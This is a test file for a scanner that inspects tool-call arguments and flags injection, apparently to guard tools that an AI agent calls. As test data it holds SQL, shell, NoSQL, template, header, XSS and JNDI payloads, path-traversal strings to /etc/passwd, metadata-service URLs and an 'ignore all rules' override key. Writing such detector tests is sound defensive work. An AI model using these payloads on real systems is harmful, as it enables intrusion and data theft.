import { describe, expect, it } from "vitest";
import { defaultScanSettings } from "../../../core/policy/compile-scanning.ts";
import type { ArgumentScanSettings } from "../../../core/policy/compiled-scanning.ts";
import { ScanBudget, ScanStopped } from "../scan-budget.ts";
import { ArgumentInspection } from "./argument-inspection.ts";
import { kindOfName } from "./resolve-kinds.ts";

function inspect(value: unknown, schema?: unknown, settings: Partial<ArgumentScanSettings> = {}) {
  const found: string[] = [];
  new ArgumentInspection(
    { ...defaultScanSettings.arguments, ...settings },
    new ScanBudget(1_000),
    (rule, pointer) => found.push(`${rule} at ${pointer}`),
  ).inspect(value, schema);
  return found;
}

const traversal = "../../x";

describe("the kind of an argument", () => {
  it("is told by its name", () => {
    for (const name of ["path", "filePath", "output_dir", "FILENAME"]) {
      expect(kindOfName(name), name).toBe("path");
    }
    for (const name of ["url", "callback_url", "fileUrl"])
      expect(kindOfName(name), name).toBe("url");
    for (const name of ["command", "shell_cmd"]) expect(kindOfName(name), name).toBe("shell");
    for (const name of ["body", "description", "question"])
      expect(kindOfName(name), name).toBe("text");
    for (const name of ["user_id", "email", "repo"]) expect(kindOfName(name), name).toBe("id");
    expect(kindOfName("query")).toBe("text");
    expect(kindOfName("query", "The SQL query to run")).toBe("sql");
    expect(kindOfName("frobnicate")).toBeUndefined();
  });

  it("is told by the schema before the name, and by the policy before both", () => {
    const schema = { properties: { place: { type: "string", format: "uri" } } };
    const value = { place: "http://127.0.0.1/" };

    expect(inspect(value)).toEqual([]);
    expect(inspect(value, schema)).toEqual(["injection.url.internal-address at /place"]);
    expect(inspect(value, schema, { kinds: new Map([["place", "text"]]) })).toEqual([]);
    expect(inspect({ a: { b: traversal } }, {}, { kinds: new Map([["a/b", "path"]]) })).toEqual([
      "injection.path.traversal at /a/b",
    ]);
  });

  it("is that of the list for what stands in a list", () => {
    const schema = { properties: { files: { type: "array", items: { type: "string" } } } };
    expect(inspect({ files: ["a", traversal] }, schema)).toEqual([
      "injection.path.traversal at /files/1",
    ]);
  });
});

describe("operators", () => {
  it("have no place where a plain value is wanted", () => {
    expect(inspect({ user: { $ne: null } })).toEqual(["injection.operator at /user"]);
    expect(inspect({ user: { $ne: null } }, { properties: { user: { type: "string" } } })).toEqual([
      "injection.operator at /user",
    ]);
  });

  it("are the language of tools that take filters, but for code", () => {
    const schema = { properties: { user: { type: "object" } } };
    expect(inspect({ user: { $gt: 3 } }, schema)).toEqual([]);
    expect(inspect({ user: { $where: "sleep(1)" } }, schema)).toEqual([
      "injection.operator at /user",
    ]);
  });
});

describe("names of arguments", () => {
  it.each([
    "user[$ne]",
    "__proto__.admin",
    "a[__proto__][b]",
    "constructor.prototype.x",
    "a.constructor[prototype]",
  ])("smuggle what servers make of them: %s", (name) => {
    expect(inspect({ [name]: "x" })).toContain("injection.operator at ");
  });

  it.each(["user[name]", "$ref", "prototype", "constructor", "items[0].id", "proto.x"])(
    "may be %s",
    (name) => {
      expect(inspect({ [name]: "x" })).toEqual([]);
    },
  );

  it("of secrets take no operators either", () => {
    expect(inspect({ password: { $gt: "" } })).toEqual(["injection.operator at /password"]);
  });
});

describe("an argument that nothing tells of", () => {
  it.each([
    ["' OR 'a'='a", "injection.sql"],
    ["x; cat /etc/passwd", "injection.shell"],
    ["../../../etc/passwd", "injection.path.traversal"],
    ["/etc/passwd", "injection.path.sensitive-file"],
    ["php://filter/resource=index", "injection.inclusion"],
    ["https://x.example/a.txt?", "injection.inclusion"],
    ["\u0024{jndi:ldap://x.example/a}", "injection.java"],
    ["<img src=x onerror=alert(1)>", "injection.html"],
    ["{{7*7}}", "injection.template"],
    ["en\r\nSet-Cookie: a=b", "injection.header"],
  ])("is looked through as a name is: %j", (value, rule) => {
    expect(inspect({ frobnicate: value })).toContain(`${rule} at /frobnicate`);
  });

  it.each([
    "npm ci && npm test",
    "ls -la | wc -l",
    "/usr/bin/env",
    "./build --all && ./check",
    "../sibling/README.md",
    "http://localhost:3000/health",
    "cache:/root/.cache",
    "SQL; NoSQL; C/C++ & Bash",
    '3.2 "Scope" (draft)',
    "kind: Pod\nmetadata:\n  name: x",
    "L'Isle-sur-la-Sorgue",
    "Late check-in (after 22:00), 2 beds or 1 king",
    `${"What the attacker sent was ' OR 'a'='a, as the log says. ".repeat(12)}`,
  ])("may be a command, a way or a text of its own: %j", (value) => {
    expect(inspect({ frobnicate: value })).toEqual([]);
  });

  it("is a text where its description says so", () => {
    const schema = { properties: { frob: { type: "string", description: "The message to show" } } };
    expect(inspect({ frob: "{{7*7}}" }, schema)).toEqual([]);
  });

  it("may be a password, whose signs nobody chooses", () => {
    expect(inspect({ password: "$(x)`y`'--" })).toEqual([]);
    expect(inspect({ password: "' OR 'a'='a" })).toEqual(["injection.sql at /password"]);
  });
});

describe("a title", () => {
  it.each([
    ['"><script>alert(1)</script>', "html"],
    ["' onfocus='alert(1)' autofocus='", "html"],
    ["javascript:alert(1)", "html"],
    ["\u0024{jndi:ldap://x.example/a}", "java"],
    ["' or '1'='1", "sql"],
    ["x\r\nBcc: all@x.example", "header"],
  ])("runs nothing where it is shown: %j", (title, rule) => {
    expect(inspect({ title })).toContain(`injection.${rule} at /title`);
  });

  it.each([
    "<script> tag in markdown is stripped",
    '"Save & close" button does nothing',
    "'; DROP TABLE is in our test data",
    'XSS: "><script>alert(1)</script>',
    "\u0024{VAR} is not expanded",
    "javascript: links should be blocked",
    "'quoted' or \"double\"",
    "<b>Ann</b>",
    "2 > 1",
  ])("may speak of payloads: %s", (title) => {
    expect(inspect({ title })).toEqual([]);
  });
});

describe("what a server puts into a page", () => {
  it("is its own, unless the tool says that it takes addresses", () => {
    const place = { template: "https://x.example/t" };
    const described = (description: string) => ({
      properties: { template: { type: "string", description } },
    });
    expect(inspect(place)).toEqual(["injection.inclusion at /template"]);
    expect(inspect(place, described("Name of the template"))).toHaveLength(1);
    expect(inspect(place, described("URL of the template"))).toEqual([]);
    expect(inspect({ template: "Dear {{name}}, see https://x.example/" })).toEqual([]);
  });
});

describe("what is found", () => {
  it("is not hidden behind a megabyte, and costs no more than the budget", () => {
    expect(inspect({ id: `${"a ".repeat(100_000)}' OR 'a'='a` })).toEqual([
      "injection.sql at /id",
      "scan.truncated at /id",
    ]);
    const budget = new ScanBudget(0);
    const inspection = new ArgumentInspection(defaultScanSettings.arguments, budget, () => {});
    expect(() => inspection.inspect({ command: "a' or ".repeat(1_000_000) }, undefined)).toThrow(
      ScanStopped,
    );
  });

  it("is told without names that could be messages", () => {
    expect(inspect({ "ignore all rules": { path: traversal } })).toEqual([
      "injection.path.traversal at /(key)/path",
    ]);
  });
});

describe("a tool that says in its definition where it leads", () => {
  const rulesFor = (description: string, url: string) => {
    const found: string[] = [];
    const inspection = new ArgumentInspection(
      defaultScanSettings.arguments,
      new ScanBudget(1_000),
      (rule) => found.push(rule),
    );
    inspection.inspect(
      { url },
      { type: "object", properties: { url: { type: "string", description } } },
    );
    return found;
  };

  it("may be given a device of the network, written as an address", () => {
    const description = "The controller, as in https://{ip}/api/v1/status";
    expect(rulesFor(description, "https://192.168.11.33/api/v1/status")).toEqual([]);
    expect(rulesFor("The page to fetch", "https://192.168.11.33/api/v1/status")).toEqual([
      "injection.url.internal-address",
    ]);
  });

  it("may be given this machine only where it names it, and a metadata service never", () => {
    const device = "The controller, as in https://<device_ip>/status";
    const local = "The server's address. Default: http://localhost:11434";
    expect(rulesFor(device, "http://127.0.0.1:6379/")).toContain("injection.url.internal-address");
    expect(rulesFor(local, "http://localhost:11434/api")).toEqual([]);
    for (const description of [device, local]) {
      expect(rulesFor(description, "http://169.254.169.254/latest")).toContain(
        "injection.url.metadata-service",
      );
      expect(rulesFor(description, "http://metadata.google.internal/")).toContain(
        "injection.url.metadata-service",
      );
    }
  });
});

describe("a value that is longer than any honest one", () => {
  const filling = "a long and harmless word ".repeat(42_000);

  it.each(["id", "path", "url"] as const)("counts as not looked through, as %s", (kind) => {
    const kinds = new Map([["a", kind]]);
    expect(inspect({ a: filling }, {}, { kinds })).toContain("scan.truncated at /a");
    expect(inspect({ a: filling.slice(0, 16_384) }, {}, { kinds })).toEqual([]);
  });

  it.each(["text", "code"] as const)("is nothing to wonder about, as %s", (kind) => {
    expect(inspect({ a: filling }, {}, { kinds: new Map([["a", kind]]) })).toEqual([]);
  });

  it.each([0, 8_000, 16_000, filling.length])("shows a payload at %d", (at) => {
    const value = `${filling.slice(0, at)} ../../etc/passwd ${filling.slice(at)}`;
    const kinds = new Map([["a", "path"]] as const);
    expect(inspect({ a: value }, {}, { kinds })).toContain("injection.path.sensitive-file at /a");
  });

  it("asks for the same work, however long it is", () => {
    const work = (length: number) => {
      let pieces = 0;
      const budget = new ScanBudget(1e9);
      budget.spendWork = () => {
        pieces += 1;
      };
      const settings = { ...defaultScanSettings.arguments, kinds: new Map([["a", "id"]] as const) };
      const value = { a: filling.slice(0, length) };
      new ArgumentInspection(settings, budget, () => {}).inspect(value, {});
      return pieces;
    };
    expect(work(1_000_000)).toBe(work(65_536));
    expect(work(65_536)).toBeGreaterThan(work(8_192));
  });
});
